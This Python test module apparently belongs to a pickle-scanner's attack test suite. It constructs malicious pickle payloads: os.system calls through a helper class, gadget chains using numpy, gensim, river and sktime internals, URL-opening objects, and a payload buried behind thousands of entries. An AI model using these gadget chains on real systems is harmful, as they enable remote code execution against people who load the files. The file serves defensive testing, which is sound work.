"""Objects whose methods do what their state says, given to calls that iterate, index or call what they get.

Most of these classes are of libraries that need not be installed: without them the file is refused as
one whose library is missing.
"""

from __future__ import annotations

import pickle as P
from collections.abc import Callable

from tests.attacks.calls import shell
from tests.attacks.case import Case, Place
from tests.attacks.opcodes import call, group, instance, integer, mapping, name, text, whole

_HELPERS = {"helpers.py": "import os\n\n\nclass Model:\n    lib = os\n    run = os.system\n"}
_OWN = ("Model.run", "Model.lib.system")


def _own(qualname: str) -> Callable[[Place], bytes]:
    return lambda place: whole(call(name(f"helpers:{qualname}"), text(shell(place))))


def _indexed(made: bytes, key: bytes) -> bytes:
    """A call of the method that an index calls."""
    return call(name("numpy.random._pickle:__generator_ctor"), made, call(name("operator:itemgetter"), key))


def _lines(place: Place) -> bytes:
    """An object that opens a URL when it is iterated."""
    url = text(f"http://127.0.0.1:{place.port}/")
    return instance(
        "gensim.models.word2vec:LineSentence", source=url, max_sentence_length=integer(9), limit=P.NONE
    )


def _sentences(place: Place) -> bytes:
    return whole(call(name("builtins:list"), _lines(place)))


def _numbers(place: Place) -> bytes:
    """A generator of random numbers that iterates its state."""
    made = name("random:Random") + P.EMPTY_TUPLE + P.NEWOBJ
    return whole(made + group(integer(2), _lines(place), P.NONE) + P.BUILD)


def _behind_many(place: Place) -> bytes:
    return whole(
        call(name("builtins:tuple"), P.EMPTY_LIST + P.MARK + P.NONE * 9000 + _lines(place) + P.APPENDS)
    )


def _stream(place: Place) -> bytes:
    made = instance("river.stream.cache:Cache", directory=text(str(place.markers)))
    return whole(_indexed(made, text("k")))


def _indexer(place: Place) -> bytes:
    space = call(name("types:SimpleNamespace")) + mapping(run=name("builtins:dict")) + P.BUILD
    made = instance("sktime.base._proba._base:_Indexer", ref=space, method=text("run"))
    return whole(_indexed(made, text("k")))


INSTANCES: list[Case] = [
    *(Case(f"an attribute {each} of an own class", "program", _own(each), beside=_HELPERS) for each in _OWN),
    Case("an object that opens what it iterates", "connect", _sentences),
    Case("such an object in a state", "connect", _numbers),
    Case("such an object behind many others", "connect", _behind_many),
    Case("an object that unpickles what it indexes", "program", _stream),
    Case("an object that calls the method it names", "program", _indexer),
]
